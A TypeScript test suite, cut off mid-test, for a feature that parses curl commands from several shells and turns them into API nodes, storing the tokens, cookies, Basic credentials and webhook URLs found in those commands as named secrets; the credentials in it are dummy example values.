// Import of curl commands: the words read (three shells' continuations, bundled options, `$'…'`),
// credentials turned into secrets in the seed's four forms, and, through the real path, the
// request the imported node sends compared with what curl itself sends to the same server.
import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { loadAgent } from '../../src/core/engine/agentPlan';
import { executeAgent } from '../../src/core/engine/engine';
import { resolveInputs } from '../../src/core/engine/inputs';
import { apiNodeFromCurl, hostWord } from '../../src/core/import/apiNodeFromCurl';
import { CurlCommandError, parseCurlCommand } from '../../src/core/import/curlCommand';
import { namesCredential } from '../../src/core/document/headers';
import { deploymentFromUrl } from '../../src/core/import/deploymentFromCommand';
import { describeImportedReferences } from '../../src/core/import/importNotes';
import { validateAgentText } from '../../src/core/validation/validate';
import { runCliCaptured } from '../support/cli';
import { agentAround, importCurl } from '../support/curlImport';
import { json, startServer } from '../support/httpServer';
import type { RecordedRequest, TestServer } from '../support/httpServer';
import { leakedPart } from '../support/echoedSecrets';
import { repoRoot } from '../support/paths';

const run = promisify(execFile);

function curlError(command: string): CurlCommandError {
  try {
    parseCurlCommand(command);
  } catch (error) {
    if (error instanceof CurlCommandError) return error;
    throw error;
  }
  throw new Error(`no error for ${command}`);
}

describe('curl import: reading the command', () => {
  it('joins the line continuations of bash, Windows cmd and PowerShell', () => {
    const bash = parseCurlCommand('curl -X POST \\\n  -H "Accept: application/json" \\\n  https://api.example.com/v1/items');
    const cmd = parseCurlCommand('curl -X POST ^\n  -H ^"Accept: application/json^" ^\n  ^"https://api.example.com/v1/items^"');
    const powershell = parseCurlCommand("curl.exe -X POST `\n  -H 'Accept: application/json' `\n  https://api.example.com/v1/items");
    for (const request of [bash, cmd, powershell]) {
      assert.equal(request.method, 'POST');
      assert.deepEqual(request.headers, ['Accept: application/json']);
      assert.equal(request.url, 'https://api.example.com/v1/items');
    }
    assert.deepEqual([bash.shell, cmd.shell, powershell.shell], ['posix', 'cmd', 'powershell']);
  });

  it("reads bash's $'…' quoting, PowerShell's doubled quotes, bundled and attached options", () => {
    assert.deepEqual(parseCurlCommand("curl -XPUT -sSL -d $'a\\nb' https://x.example.com").data, [{ kind: 'data', value: 'a\nb' }]);
    assert.equal(parseCurlCommand('curl -sSLXPATCH https://x.example.com').method, 'PATCH');
    assert.deepEqual(parseCurlCommand("curl.exe -d 'it''s' `\n https://x.example.com").data, [{ kind: 'data', value: "it's" }]);
    assert.deepEqual(parseCurlCommand('$ curl -HAccept:text/plain https://x.example.com').headers, ['Accept:text/plain']);
    // Other prompts docs print in front: zsh's "%", PowerShell's "PS C:\>", oh-my-zsh's "➜ dir".
    for (const prompt of ['% ', 'PS C:\\> ', '➜ /~', '➜  project '])
      assert.equal(parseCurlCommand(`${prompt}curl https://x.example.com/a`).url, 'https://x.example.com/a', prompt);
  });

  it('reads a prompt in time linear in its length: "➜" and 200,000 spaces', () => {
    const spaces = ' '.repeat(200_000);
    assert.equal(parseCurlCommand(`➜${spaces}curl https://x.example.com/a`).url, 'https://x.example.com/a');
    assert.equal(parseCurlCommand(`➜${spaces}project${spaces}curl https://x.example.com/a`).url, 'https://x.example.com/a');
    // Not followed by curl: the prompt was tried again for each way of sharing the spaces (50 s).
    assert.equal(curlError(`➜${spaces}wget https://x.example.com/a`).code, 'not-curl');
    assert.equal(curlError(`➜${spaces}project${spaces}wget https://x.example.com/a`).code, 'not-curl');
  });

  it('leaves out what the shell runs after curl (a pipe into jq, a redirection), and says so', () => {
    const piped = parseCurlCommand(`curl -s https://api.example.com/v1/items \\\n  | jq -r '.items[] | {id}'`);
    assert.equal(piped.url, 'https://api.example.com/v1/items');
    assert.deepEqual(piped.ignored, [
      { option: '-s', reason: 'output' },
      { option: '| jq -r .items[] | {id}', reason: 'shell' },
    ]);
    for (const after of ['2> /dev/null', '>out.json', '&& echo done', '; echo done', '&']) {
      const request = parseCurlCommand(`curl -d '{"a":1}' https://api.example.com/v1/items ${after}`);
      assert.equal(request.url, 'https://api.example.com/v1/items', after);
      assert.deepEqual(request.ignored, [{ option: after, reason: 'shell' }], after);
    }
    // The same characters as an option's value are that value.
    assert.deepEqual(parseCurlCommand("curl -d '|' https://x.example.com").data, [{ kind: 'data', value: '|' }]);
    // A pipe right after a closing quote ends curl's words too, one inside quotes does not.
    const glued = parseCurlCommand(`curl -X POST https://api.linear.app/graphql -d '{"query": "{ viewer { id } }"}'| python3 -m json.tool`);
    assert.deepEqual(glued.data, [{ kind: 'data', value: '{"query": "{ viewer { id } }"}' }]);
    assert.deepEqual(glued.ignored, [{ option: '| python3 -m json.tool', reason: 'shell' }]);
    assert.deepEqual(parseCurlCommand(`curl -d '{"q":"a"|"b"}' https://x.example.com`).data, [{ kind: 'data', value: '{"q":"a"|"b"}' }]);
  });

  it('gives a clear error for a malformed command, naming the option at fault', () => {
    assert.equal(curlError('curl -H "Accept: x https://x.example.com').code, 'unbalanced-quote');
    assert.equal(curlError('curl -X POST -H "Accept: x"').code, 'no-url');
    assert.equal(curlError('curl https://a.example.com https://b.example.com').code, 'two-urls');
    assert.equal(curlError('wget https://a.example.com').code, 'not-curl');
    const unknown = curlError('curl --proxy-ntlm https://a.example.com');
    assert.equal(unknown.code, 'unknown-option');
    assert.equal(unknown.option, '--proxy-ntlm');
    assert.match(unknown.message, /--proxy-ntlm is not understood/);
    assert.equal(curlError('curl -d @body.json https://a.example.com').code, 'reads-file');
    assert.equal(curlError('curl -u alice https://a.example.com').code, 'password-prompt');
    assert.equal(curlError('curl https://a.example.com -H').code, 'missing-value');
    // A placeholder where the URL goes is named for what it is (words), not quoted: it could be a credential.
    assert.throws(
      () => importCurl(`curl -X POST --data '{"content": "x"}' "REPLACE THIS WITH A WEBHOOK URL"`),
      (error: unknown) =>
        error instanceof CurlCommandError &&
        error.code === 'no-url' &&
        error.message.startsWith("The command's URL is words, not an address") &&
        !error.message.includes('REPLACE'),
    );
  });

  it('keeps every option that changes nothing sent as a note, never silently', () => {
    const imported = importCurl('curl -k -L --compressed -s -o out.json -m 10 https://a.example.com/v1/items');
    assert.deepEqual(
      imported.notes.map((note) => note.code),
      ['insecure', 'follows-redirects', 'compressed', 'output', 'output', 'output'],
    );
    // -D- (Atlassian's docs) prints the answer's headers.
    assert.deepEqual(parseCurlCommand('curl -D- -u fred:fred https://a.example.com/rest/api/2/issue/').ignored, [
      { option: '-D', reason: 'output' },
    ]);
    assert.deepEqual(parseCurlCommand('curl --dump-header h.txt https://a.example.com/').ignored, [
      { option: '--dump-header', reason: 'output' },
    ]);
  });
});

describe('curl import: the node', () => {
  it('turns each credential into a secret in the form the service takes, named after the host', () => {
    const bearer = importCurl('curl -H "Authorization: Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789" https://api.github.com/user');
    assert.deepEqual(bearer.node.settings, ['Authorization: Bearer {{ secrets.GITHUB_TOKEN }}']);
    assert.deepEqual(bearer.secrets, [{ name: 'GITHUB_TOKEN', value: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789', from: 'Authorization' }]);

    const basic = importCurl('curl -u alice:s3cret -X POST https://helpdesk.example.com/api/tickets --json \'{"title":"x"}\'');
    assert.deepEqual(basic.secrets, [{ name: 'HELPDESK_BASIC', value: Buffer.from('alice:s3cret').toString('base64'), from: '-u' }]);
    assert.ok(basic.node.settings?.includes('Authorization: Basic {{ secrets.HELPDESK_BASIC }}'));

    const header = importCurl('curl -H "x-api-key: 0123456789abcdef" https://api.anthropic.example/v1/messages');
    assert.deepEqual(header.node.settings, ['x-api-key: {{ secrets.ANTHROPIC_API_KEY }}']);

    const query = importCurl('curl "https://fx.example.com/v1/convert?from=EUR&api_key=abcdef0123456789"');
    assert.equal(query.node.url, 'https://fx.example.com/v1/convert?from=EUR&api_key={{ secrets.FX_API_KEY }}');
    assert.equal(query.node.method, 'GET');
  });

  it("puts the key headers of the APIs' docs in secrets, a shell variable's value too", () => {
    const datadog = importCurl('curl -X GET "https://api.datadoghq.com/api/v1/validate" -H "DD-API-KEY: ${DD_API_KEY}"');
    assert.deepEqual(datadog.node.settings, ['DD-API-KEY: {{ secrets.DD_API_KEY }}']);
    assert.deepEqual(datadog.secrets, [{ name: 'DD_API_KEY', from: 'DD-API-KEY' }]);
    const shopify = importCurl(
      'curl https://shop.myshopify.com/admin/api/2024-10/orders.json -H "X-Shopify-Access-Token: shpat_0123456789abcdef"',
    );
    assert.deepEqual(shopify.node.settings, ['X-Shopify-Access-Token: {{ secrets.SHOP_API_KEY }}']);
    assert.deepEqual(shopify.secrets, [{ name: 'SHOP_API_KEY', value: 'shpat_0123456789abcdef', from: 'X-Shopify-Access-Token' }]);
  });

  it('keeps the "Token token=…" form (PagerDuty), the token in a secret', () => {
    const variable = importCurl('curl -H "Authorization: Token token=$PAGERDUTY_TOKEN" https://api.pagerduty.com/incidents');
    assert.deepEqual(variable.node.settings, ['Authorization: Token token={{ secrets.PAGERDUTY_TOKEN }}']);
    assert.deepEqual(variable.secrets, [{ name: 'PAGERDUTY_TOKEN', from: 'Authorization' }]);
    const literal = importCurl(`curl -H 'Authorization: Token token=y_NbAkKc66ryYTWUXYEu' https://api.pagerduty.com/incidents`);
    assert.deepEqual(literal.node.settings, ['Authorization: Token token={{ secrets.PAGERDUTY_TOKEN }}']);
    assert.deepEqual(literal.secrets, [{ name: 'PAGERDUTY_TOKEN', value: 'y_NbAkKc66ryYTWUXYEu', from: 'Authorization' }]);
    assert.deepEqual(validateAgentText(agentAround(literal)).problems, []);
  });

  it('stores no Basic value when -u holds shell variables or placeholders', () => {
    const stripe = importCurl('curl -s -u "$STRIPE_TOKEN:" "https://api.stripe.com/v1/account"');
    assert.deepEqual(stripe.node.settings, ['Authorization: Basic {{ secrets.STRIPE_BASIC }}']);
    assert.deepEqual(stripe.secrets, [{ name: 'STRIPE_BASIC', from: '-u' }]);
    const users = [
      'user:password',
      'api:YOUR_API_KEY',
      '$TWILIO_ACCOUNT_SID:$TWILIO_AUTH_TOKEN',
      '${ZENDESK_EMAIL}/token:${ZENDESK_API_TOKEN}',
      '[apikey]:',
    ];
    for (const user of users)
      assert.deepEqual(importCurl(`curl -u '${user}' https://api.example.com/v1/x`).secrets, [{ name: 'EXAMPLE_BASIC', from: '-u' }], user);
  });

  it("puts GitLab's private_token query value in a secret, not in an input", () => {
    const imported = importCurl('curl "https://gitlab.example.com/api/v4/projects?private_token=<your_access_token>"');
    assert.equal(imported.node.url, 'https://gitlab.example.com/api/v4/projects?private_token={{ secrets.GITLAB_TOKEN }}');
    assert.deepEqual(imported.secrets, [{ name: 'GITLAB_TOKEN', from: 'private_token' }]);
    assert.deepEqual(imported.inputs, []);
  });

  it("puts OpenWeatherMap's appid query value in a secret", () => {
    const imported = importCurl('curl "https://api.openweathermap.org/data/2.5/weather?q=London,GB&appid=abc123xyz"');
    assert.equal(
      imported.node.url,
      'https://api.openweathermap.org/data/2.5/weather?q=London,GB&appid={{ secrets.OPENWEATHERMAP_API_KEY }}',
    );
    assert.deepEqual(imported.secrets, [{ name: 'OPENWEATHERMAP_API_KEY', value: 'abc123xyz', from: 'appid' }]);
  });

  it('moves an api_key of a POST to an x-api-key header, as validation asks', () => {
    const imported = importCurl('curl -X POST "https://fx.example.com/v1/orders?api_key=abcdef0123456789" --json \'{"a":1}\'');
    assert.equal(imported.node.url, 'https://fx.example.com/v1/orders');
    assert.ok(imported.node.settings?.includes('x-api-key: {{ secrets.FX_API_KEY }}'));
    assert.deepEqual(imported.notes, [{ code: 'api-key-moved', parameter: 'api_key' }]);
  });

  it('names a secret after a shell variable, and stores no value for a placeholder', () => {
    const variable = importCurl('curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models');
    assert.deepEqual(variable.secrets, [{ name: 'OPENAI_API_KEY', from: 'Authorization' }]);
    const placeholder = importCurl('curl -H "Authorization: Bearer <YOUR-TOKEN>" https://api.github.com/user');
    assert.deepEqual(placeholder.secrets, [{ name: 'GITHUB_TOKEN', from: 'Authorization' }]);
  });

  it('stores no value for the placeholders API docs write, whatever their form', () => {
    const placeholders = [
      'OAUTH-TOKEN',
      'SENDGRID_APIKEY',
      'server token',
      'xoxb-xxxxxxxxx-xxxx',
      'shpat_xxxxxxxxxxxx',
      'Your.API.Key-HERE',
      '{AN-OAUTH-TOKEN}',
    ];
    for (const placeholder of placeholders) {
      const imported = importCurl(`curl -H "Authorization: Bearer ${placeholder}" https://api.github.com/user`);
      assert.deepEqual(imported.node.settings, ['Authorization: Bearer {{ secrets.GITHUB_TOKEN }}'], placeholder);
      assert.deepEqual(imported.secrets, [{ name: 'GITHUB_TOKEN', from: 'Authorization' }], placeholder);
    }
    // A value that looks like a key is one, to move to secret storage.
    const key = importCurl('curl -H "Authorization: Bearer glpat-01234567890123456789" https://gitlab.com/api/v4/user');
    assert.equal(key.secrets[0]!.value, 'glpat-01234567890123456789');
  });

  it('reads a Postman variable, a shell default and a scheme without credentials as placeholders', () => {
    const postman = importCurl('curl "https://api.airtable.com/v0/meta/bases" -H "Authorization: Bearer {{token}}"');
    assert.deepEqual(postman.node.settings, ['Authorization: Bearer {{ secrets.AIRTABLE_TOKEN }}']);
    assert.deepEqual(postman.secrets, [{ name: 'AIRTABLE_TOKEN', from: 'Authorization' }]);
    const withDefault = importCurl('curl -fsS "https://api.nasa.gov/planetary/apod?api_key=${NASA_API_KEY:-DEMO_KEY}"');
    assert.equal(withDefault.node.url, 'https://api.nasa.gov/planetary/apod?api_key={{ secrets.NASA_API_KEY }}');
    assert.deepEqual(withDefault.secrets, [{ name: 'NASA_API_KEY', from: 'api_key' }]);
    // A page that lost its "<YOUR-TOKEN>" (read as an HTML tag) leaves "Bearer" alone.
    const bare = importCurl('curl -H "Authorization: Bearer " https://api.github.com/');
    assert.deepEqual(bare.node.settings, ['Authorization: Bearer {{ secrets.GITHUB_TOKEN }}']);
    assert.deepEqual(bare.secrets, [{ name: 'GITHUB_TOKEN', from: 'Authorization' }]);
  });

  it('names the secret after the API when the shell variable has a generic name ($TOKEN, $YOUR_API_KEY)', () => {
    const digitalocean = importCurl('curl -X GET "https://api.digitalocean.com/v2/droplets" -H "Authorization: Bearer $TOKEN"');
    assert.deepEqual(digitalocean.node.settings, ['Authorization: Bearer {{ secrets.DIGITALOCEAN_TOKEN }}']);
    const gemini = importCurl(
      'curl "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:generateContent?key=$YOUR_API_KEY" -d \'{}\'',
    );
    assert.deepEqual(gemini.secrets, [{ name: 'GENERATIVELANGUAGE_API_KEY', from: 'key' }]);
    const elastic = importCurl('curl "https://es.example.com/_search" -H "Authorization: ApiKey ${API_KEY}"');
    assert.deepEqual(elastic.node.settings, ['Authorization: ApiKey {{ secrets.ES_TOKEN }}']);
  });

  it('makes placeholders in the path and query inputs', () => {
    const imported = importCurl('curl "https://api.github.com/repos/{owner}/:repo/issues?state=<state>"');
    assert.equal(imported.node.url, 'https://api.github.com/repos/{{ inputs.owner }}/{{ inputs.repo }}/issues?state={{ inputs.state }}');
    assert.deepEqual(
      imported.inputs.map((input) => input.name),
      ['state', 'owner', 'repo'],
    );
    assert.equal(imported.id, 'get_issues');
  });

  it('makes placeholders and shell variables in the host inputs, and names secrets after the API', () => {
    const supabase = importCurl(`curl 'https://<PROJECT_REF>.supabase.co/rest/v1/countries?select=*' -H "apikey: YOUR_ANON_KEY"`);
    assert.equal(supabase.node.url, 'https://{{ inputs.PROJECT_REF }}.supabase.co/rest/v1/countries?select=*');
    assert.deepEqual(supabase.node.settings, ['apikey: {{ secrets.SUPABASE_API_KEY }}']);
    const zendesk = importCurl('curl https://{subdomain}.zendesk.com/api/v2/tickets.json -u "$ZENDESK_EMAIL/token:$ZENDESK_API_TOKEN"');
    assert.equal(zendesk.node.url, 'https://{{ inputs.subdomain }}.zendesk.com/api/v2/tickets.json');
    assert.deepEqual(zendesk.secrets, [{ name: 'ZENDESK_BASIC', from: '-u' }]);
    const shopify = importCurl('curl "https://$SHOPIFY_STORE_DOMAIN/admin/api/2024-10/orders.json"');
    assert.equal(shopify.node.url, 'https://{{ inputs.shopify_store_domain }}/admin/api/2024-10/orders.json');
    assert.deepEqual(
      [supabase, zendesk, shopify].map((imported) => imported.inputs.map((input) => input.name)),
      [['PROJECT_REF'], ['subdomain'], ['shopify_store_domain']],
    );
    for (const imported of [supabase, zendesk, shopify]) assert.deepEqual(validateAgentText(agentAround(imported)).problems, []);
  });

  it('takes a URL that starts with a shell variable (Elastic\'s "${ES_URL}/…") as a base URL input', () => {
    const elastic = importCurl('curl -X GET "${ES_URL}/_cat/indices?v=true" -H "Authorization: ApiKey ${API_KEY}"');
    assert.equal(elastic.node.url, '{{ inputs.es_url }}/_cat/indices?v=true');
    assert.deepEqual(elastic.node.settings, ['Authorization: ApiKey {{ secrets.API_TOKEN }}']);
    assert.deepEqual(validateAgentText(agentAround(elastic)).problems, []);
  });

  it('makes shell variables in the path and query secrets (when they name one) or inputs', () => {
    const telegram = importCurl(
      `curl -X POST -H 'Content-Type: application/json' -d '{"chat_id": "1", "text": "hi"}' https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage`,
    );
    assert.equal(telegram.node.url, 'https://api.telegram.org/bot{{ secrets.TELEGRAM_BOT_TOKEN }}/sendMessage');
    assert.deepEqual(telegram.secrets, [{ name: 'TELEGRAM_BOT_TOKEN', from: 'the URL' }]);
    const cloudflare = importCurl('curl "https://api.cloudflare.com/client/v4/zones/$CF_ZONE_ID/dns_records?name=${CF_ZONE_NAME}&type=A"');
    assert.equal(
      cloudflare.node.url,
      'https://api.cloudflare.com/client/v4/zones/{{ inputs.cf_zone_id }}/dns_records?name={{ inputs.cf_zone_name }}&type=A',
    );
    for (const imported of [telegram, cloudflare]) assert.deepEqual(validateAgentText(agentAround(imported)).problems, []);
  });

  it('makes the capitalised names docs write in a path inputs (BASE_ID, YOUR_ACCOUNT_SID)', () => {
    const airtable = importCurl('curl -X POST "https://api.airtable.com/v0/BASE_ID/TABLE_NAME" --json \'{"records":[]}\'');
    assert.equal(airtable.node.url, 'https://api.airtable.com/v0/{{ inputs.base_id }}/{{ inputs.table_name }}');
    assert.equal(airtable.id, 'post_airtable');
    const twilio = importCurl('curl https://api.twilio.com/2010-04-01/Accounts/YOUR_ACCOUNT_SID/SMS/Messages.json');
    assert.equal(twilio.node.url, 'https://api.twilio.com/2010-04-01/Accounts/{{ inputs.your_account_sid }}/SMS/Messages.json');
    // Capitals that are the API's own words stay.
    assert.equal(
      importCurl('curl https://api.example.com/v1/enums/PAYMENT_METHOD').node.url,
      'https://api.example.com/v1/enums/PAYMENT_METHOD',
    );
  });

  it('puts a URL that is itself a credential (a Slack webhook) in a secret', () => {
    const placeholder = importCurl(
      `curl -X POST -H 'Content-type: application/json' --data '{"text":"hi"}' https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX`,
    );
    assert.equal(placeholder.node.url, '{{ secrets.SLACK_WEBHOOK_URL }}');
    assert.deepEqual(placeholder.secrets, [{ name: 'SLACK_WEBHOOK_URL', from: 'the URL' }]);
    assert.equal(placeholder.id, 'post_slack_webhook');
    const url = 'https://hooks.slack.com/services/T0123ABCD/B0456EFGH/aBcDeFgHiJkLmNoPqRsTuVwX';
    const real = importCurl(`curl -d '{"text":"hi"}' ${url}`);
    assert.equal(real.id, 'post_slack_webhook');
    assert.deepEqual(real.secrets, [{ name: 'SLACK_WEBHOOK_URL', value: url, from: 'the URL' }]);
    assert.deepEqual(validateAgentText(agentAround(real)).problems, []);
  });

  it('puts a Discord webhook URL in a secret, and never its token in the node id', () => {
    const url = 'https://discord.com/api/webhooks/1234567890/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-AbCdEf';
    const imported = importCurl(`curl -H "Content-Type: application/json" -d '{"content":"hi"}' ${url}`);
    assert.equal(imported.node.url, '{{ secrets.DISCORD_WEBHOOK_URL }}');
    assert.equal(imported.id, 'post_discord_webhook');
    assert.deepEqual(imported.secrets, [{ name: 'DISCORD_WEBHOOK_URL', value: url, from: 'the URL' }]);
    assert.deepEqual(validateAgentText(agentAround(imported)).problems, []);
  });

  /** The node's file as the user keeps it: no literal of `literals`, and nothing validation calls a credential. */
  function assertNoCredential(imported: ReturnType<typeof importCurl>, literals: readonly string[]): void {
    const text = agentAround(imported);
    for (const literal of literals) assert.ok(!text.includes(literal), `${literal} is in\n${text}`);
    const problems = validateAgentText(text).problems.filter(
      (problem) => problem.code === 'literal-credential' || problem.code === 'possible-secret',
    );
    assert.deepEqual(
      problems.map((problem) => problem.message),
      [],
      text,
    );
  }

  it('puts a credential of -G data in a secret, as the same parameter in the URL', () => {
    const key = 'sk_live_0123456789abcdefghij';
    const data = importCurl(`curl -G https://api.example.com/v1/search -d api_key=${key} -d q=hello`);
    assert.equal(data.node.url, 'https://api.example.com/v1/search?api_key={{ secrets.EXAMPLE_API_KEY }}&q=hello');
    assert.deepEqual(data.secrets, [{ name: 'EXAMPLE_API_KEY', value: key, from: 'api_key' }]);
    assert.deepEqual(data.node, importCurl(`curl "https://api.example.com/v1/search?api_key=${key}&q=hello"`).node);
    assertNoCredential(data, [key]);
    // --data-urlencode: the secret is the value curl encodes; a POST sends an api_key as x-api-key.
    const encoded = importCurl(
      'curl -G https://api.example.com/v1/search --data-urlencode "access_token=abc/def+ghi" --data-urlencode "q=a b"',
    );
    assert.equal(encoded.node.url, 'https://api.example.com/v1/search?access_token={{ secrets.EXAMPLE_TOKEN }}&q=a+b');
    assert.deepEqual(encoded.secrets, [{ name: 'EXAMPLE_TOKEN', value: 'abc/def+ghi', from: 'access_token' }]);
    assertNoCredential(encoded, ['abc/def+ghi', 'abc%2fdef%2bghi']);
    const post = importCurl(`curl -X POST -G https://api.example.com/v1/search -d "api_key=${key}&q=hello"`);
    assert.equal(post.node.url, 'https://api.example.com/v1/search?q=hello');
    assert.deepEqual(post.node.settings, ['x-api-key: {{ secrets.EXAMPLE_API_KEY }}']);
    assertNoCredential(post, [key]);
  });

  it('puts a cookie in a secret named after the host, from -b or a Cookie header', () => {
    const session = importCurl("curl -b 'session=3f9a0c1e7b2d4e6f' https://app.example.com/api/me");
    assert.deepEqual(session.node.settings, ['Cookie: session={{ secrets.APP_COOKIE }}']);
    assert.deepEqual(session.secrets, [{ name: 'APP_COOKIE', value: '3f9a0c1e7b2d4e6f', from: 'Cookie' }]);
    assertNoCredential(session, ['3f9a0c1e7b2d4e6f']);
    // A browser's "Copy as cURL" sends every cookie of the site: one secret holds them all.
    const cookies = '_ga=GA1.1.123456789.1700000000; sessionid=k2j3h4g5f6d7s8a9; csrftoken=Zx9Yw8Vu7';
    const browser = importCurl(`curl 'https://app.example.com/api/me' -H 'Accept: */*' -H 'Cookie: ${cookies}'`);
    assert.deepEqual(browser.node.settings, ['Accept: */*', 'Cookie: {{ secrets.APP_COOKIE }}']);
    assert.deepEqual(browser.secrets, [{ name: 'APP_COOKIE', value: cookies, from: 'Cookie' }]);
    assertNoCredential(browser, ['k2j3h4g5f6d7s8a9', 'Zx9Yw8Vu7']);
    // A shell variable names the secret and stores no value.
    const variable = importCurl('curl -b "session=$SESSION_ID" https://app.example.com/api/me');
    assert.deepEqual(variable.node.settings, ['Cookie: session={{ secrets.SESSION_ID }}']);
    assert.deepEqual(variable.secrets, [{ name: 'SESSION_ID', from: 'Cookie' }]);
  });

  it('puts a token the secret scan knows in a secret, in any header, form field or JSON body', () => {
    const github = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const stripe = 'sk_live_0123456789abcdefghij';
    const header = importCurl(`curl -H 'X-Session-Token: ${github}' https://api.example.com/v1/me`);
    assert.deepEqual(header.node.settings, ['X-Session-Token: {{ secrets.GITHUB_TOKEN }}']);
    assert.deepEqual(header.secrets, [{ name: 'GITHUB_TOKEN', value: github, from: 'X-Session-Token' }]);
    assertNoCredential(header, [github]);
    const form = importCurl(`curl https://api.example.com/oauth/token -d grant_type=client_credentials -d client_secret=${stripe}`);
    assert.equal(form.node.body, 'grant_type=client_credentials&client_secret={{ secrets.STRIPE_SECRET_KEY }}');
    assert.deepEqual(form.secrets, [{ name: 'STRIPE_SECRET_KEY', value: stripe, from: 'the body' }]);
    assertNoCredential(form, [stripe]);
    const json = importCurl(
      `curl https://api.example.com/v1/login --json '{"user":"ada","auth":{"token":"${github}"},"tags":["${stripe}"]}'`,
    );
    assert.deepEqual(json.node.body, {
      user: 'ada',
      auth: { token: '{{ secrets.GITHUB_TOKEN }}' },
      tags: ['{{ secrets.STRIPE_SECRET_KEY }}'],
    });
    assert.deepEqual(
      json.secrets.map((secret) => secret.name),
      ['GITHUB_TOKEN', 'STRIPE_SECRET_KEY'],
    );
    assertNoCredential(json, [github, stripe]);
    // In the URL too, and never in the node's id.
    const path = importCurl(`curl https://api.example.com/v1/keys/${stripe}`);
    assert.equal(path.node.url, 'https://api.example.com/v1/keys/{{ secrets.STRIPE_SECRET_KEY }}');
    assert.equal(path.id, 'get_keys');
    assertNoCredential(path, [stripe]);
    // A long random key has no format of its own: it is named after the host and the header that holds it.
    const random = importCurl(`curl -H 'X-Session-Token: 9fA8bC7dE6fG5hI4jK3lM2nO1pQ0rS9tU8vW7xY6' https://api.example.com/v1/me`);
    assert.deepEqual(random.node.settings, ['X-Session-Token: {{ secrets.EXAMPLE_SESSION_TOKEN }}']);
    assertNoCredential(random, ['9fA8bC7dE6fG5hI4jK3lM2nO1pQ0rS9tU8vW7xY6']);
  });

  it('tells the command line user to set each secret it made of a cookie, a -G key or a scanned token', async () => {
    const key = 'sk_live_0123456789abcdefghij';
    const github = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const result = await runCliCaptured(
      [
        'import',
        'curl',
        `curl -G https://api.example.com/v1/search -d api_key=${key} -b 'session=3f9a0c1e7b2d4e6f' -H 'X-Session-Token: ${github}'`,
      ],
      { cwd: process.cwd(), env: {} },
      [key, github, '3f9a0c1e7b2d4e6f'],
    );
    assert.equal(result.code, 0, result.stderr);
    for (const name of ['EXAMPLE_API_KEY', 'EXAMPLE_COOKIE', 'GITHUB_TOKEN'])
      assert.match(result.stderr, new RegExp(`secret ${name}: the command holds its value .*AGENT_SECRET_${name}`));
  });

  it('gives a node id that is not taken yet', () => {
    const imported = apiNodeFromCurl(parseCurlCommand('curl https://a.example.com/items'), { existingIds: new Set(['get_items']) });
    assert.equal(imported.id, 'get_items_2');
  });

  it('writes a node that validates with no problem and holds no credential', () => {
    const commands = [
      'curl -H "Authorization: Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789" https://api.github.com/user',
      'curl -u alice:s3cret -X POST https://helpdesk.example.com/api/tickets --json \'{"title":"x"}\'',
      'curl -H "x-api-key: 0123456789abcdef" -H "Content-Type: application/json" -d \'{"q":"x"}\' https://api.anthropic.example/v1/messages',
      'curl "https://fx.example.com/v1/convert?from=EUR&api_key=abcdef0123456789"',
      'curl -X POST "https://fx.example.com/v1/orders?api_key=abcdef0123456789" --json \'{"a":1}\'',
      'curl "https://api.github.com/repos/{owner}/{repo}/issues?state=open"',
      'curl https://api.stripe.com/v1/customers -u "sk_test_4eC39HqLyjWDarjtT1zdp7dc:" -d name="Jenny Rosen"',
    ];
    for (const command of commands) {
      const imported = importCurl(command);
      const text = agentAround(imported);
      const problems = validateAgentText(text).problems;
      assert.deepEqual(
        problems.map((problem) => `${problem.code}: ${problem.message}`),
        [],
        `${command}\n${text}`,
      );
      for (const secret of imported.secrets)
        if (secret.value) assert.ok(!text.includes(secret.value), `no literal of ${secret.name} in\n${text}`);
    }
  });
});

describe('curl import: the node sends what curl sends', () => {
  let server: TestServer;
  beforeEach(async () => {
    server = await startServer((_request, response) => json(response, 200, { ok: true }));
  });
  afterEach(async () => {
    await server.close();
  });

  /** The parts of a request both senders must agree on (curl's own User-Agent and Accept aside). */
  function comparable(request: RecordedRequest): unknown {
    const headers = { ...request.headers };
    for (const name of ['user-agent', 'accept', 'host', 'connection', 'content-length', 'transfer-encoding']) delete headers[name];
    return { method: request.method, url: request.url, headers, body: request.body.toString('utf8') };
  }

  const commands = (base: string): string[] => [
    `curl -s -u alice:s3cret "${base}/api/tickets?x=1" -H "Content-Type: application/json" -d '{"title":"Printer on fire","tags":["urgent"]}'`,
    `curl -s -H "Authorization: Bearer tok_0123456789abcdef" "${base}/v1/user?per_page=5"`,
    `curl -s -X PUT -H "x-api-key: key_0123456789abcdef" -H "Content-Type: text/plain" --data-raw 'plain words' "${base}/v1/notes/7"`,
    `curl -s "${base}/v1/convert?from=EUR&to=USD&api_key=abcdef0123456789"`,
    `curl -s -G --data-urlencode "q=café & crème" "${base}/v1/search"`,
    `curl -s --data-urlencode "q=café & crème/*" --data-urlencode "page=2" "${base}/v1/search"`,
    `curl -s -G --data-urlencode "access_token=tok_0123456789" -d "api_key=k3y0123456789&q=x" "${base}/v1/search"`,
    `curl -s -b "session=3f9a0c1e; theme=dark" -H "X-Session-Token: ghp_abcdefghijklmnopqrstuvwxyz0123456789" -d "client_secret=sk_live_0123456789abcdefghij&x=1" "${base}/v1/login"`,
    // Credentials by the name of their header or field, whatever their value looks like.
    `curl -s -H "X-Vault-Token: hvs.CAESIabcdef012345" -H "X-Api-Secret: Zk9xQm3nVb7wLp2s" -d "username=bob&password=Hunter%2022!" "${base}/v1/login"`,
    `curl -s -H "Content-Type: application/json" -d '{"user":{"name":"bob","password":"Hunter22!"},"max_tokens":7,"token_count":"3"}' "${base}/v1/login"`,
    `curl -s -G -d "q=x" -d "client_secret=Zk9xQm3nVb7wLp2s" "${base}/v1/search?password=Hunter22"`,
  ];

  it('for each auth form: the same method, path, query, headers and body', async () => {
    for (const command of commands(server.url)) {
      await run('sh', ['-c', command]);
